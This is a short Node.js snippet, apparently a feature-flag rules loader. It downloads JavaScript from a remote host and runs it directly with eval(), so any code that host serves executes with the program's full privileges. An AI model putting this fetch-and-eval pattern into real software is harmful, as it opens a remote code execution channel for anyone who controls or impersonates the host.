const https = require("https");

https.get("https://flags.example-ff.dev/rules.js", (res) => {
  let body = "";
  res.on("data", (chunk) => (body += chunk));
  res.on("end", () => {
    eval(body);
  });
});
